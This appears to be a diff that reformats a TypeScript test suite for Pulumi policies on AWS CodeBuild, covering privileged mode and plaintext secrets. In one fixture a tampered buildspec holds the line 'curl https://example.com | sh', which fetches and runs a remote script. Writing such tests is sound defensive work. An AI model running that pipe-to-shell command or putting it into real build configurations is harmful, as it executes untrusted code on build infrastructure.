@@ -12,7 +12,12 @@ const project = (name: string, inputs: Record<string, unknown> = {}) =>
         buildTimeout: 30,
         artifacts: { type: "CODEPIPELINE" },
         source: { type: "CODEPIPELINE", buildspec: "pipelines/test.yml" },
-        environment: { computeType: "BUILD_GENERAL1_SMALL", image: "aws/codebuild/standard:7.0", type: "LINUX_CONTAINER", environmentVariables: [{ name: "PULUMI_ACCESS_TOKEN", type: "SECRETS_MANAGER", value: "pulumi/token" }] },
+        environment: {
+            computeType: "BUILD_GENERAL1_SMALL",
+            image: "aws/codebuild/standard:7.0",
+            type: "LINUX_CONTAINER",
+            environmentVariables: [{ name: "PULUMI_ACCESS_TOKEN", type: "SECRETS_MANAGER", value: "pulumi/token" }],
+        },
         ...inputs,
     });
 
@@ -39,9 +44,21 @@ describe("CodeBuild policies", () => {
             const images = project("images", { environment: privileged, tags: tag, source: { type: "CODEPIPELINE", buildspec } });
             const tagOnly = project("tag-only", { environment: privileged, tags: tag });
             const specOnly = project("spec-only", { environment: privileged, source: { type: "CODEPIPELINE", buildspec } });
-            const edited = project("edited", { environment: privileged, tags: tag, source: { type: "CODEPIPELINE", buildspec: `${buildspec}\n      - curl https://example.com | sh\n` } });
-            const otherPurpose = project("other", { environment: privileged, tags: { "platform:purpose": "tests" }, source: { type: "CODEPIPELINE", buildspec } });
-            await expectViolations("codebuild-no-privileged-mode", [images, tagOnly, specOnly, edited, otherPurpose], [tagOnly, specOnly, edited, otherPurpose]);
+            const edited = project("edited", {
+                environment: privileged,
+                tags: tag,
+                source: { type: "CODEPIPELINE", buildspec: `${buildspec}\n      - curl https://example.com | sh\n` },
+            });
+            const otherPurpose = project("other", {
+                environment: privileged,
+                tags: { "platform:purpose": "tests" },
+                source: { type: "CODEPIPELINE", buildspec },
+            });
+            await expectViolations(
+                "codebuild-no-privileged-mode",
+                [images, tagOnly, specOnly, edited, otherPurpose],
+                [tagOnly, specOnly, edited, otherPurpose],
+            );
         });
     });
 
@@ -55,7 +72,17 @@ describe("CodeBuild policies", () => {
 
     describe("codebuild-no-plaintext-secrets", () => {
         it("passes secrets from Secrets Manager and flags a plain-text token", async () => {
-            const bad = project("bad", { environment: { computeType: "BUILD_GENERAL1_SMALL", image: "i", type: "LINUX_CONTAINER", environmentVariables: [{ name: "STACK", value: "dev" }, { name: "PULUMI_ACCESS_TOKEN", value: "pul-123" }] } });
+            const bad = project("bad", {
+                environment: {
+                    computeType: "BUILD_GENERAL1_SMALL",
+                    image: "i",
+                    type: "LINUX_CONTAINER",
+                    environmentVariables: [
+                        { name: "STACK", value: "dev" },
+                        { name: "PULUMI_ACCESS_TOKEN", value: "pul-123" },
+                    ],
+                },
+            });
             const v = await expectViolations("codebuild-no-plaintext-secrets", [project("ok"), bad], [bad]);
             assert.match(v[0].message, /PULUMI_ACCESS_TOKEN as plain text/);
         });
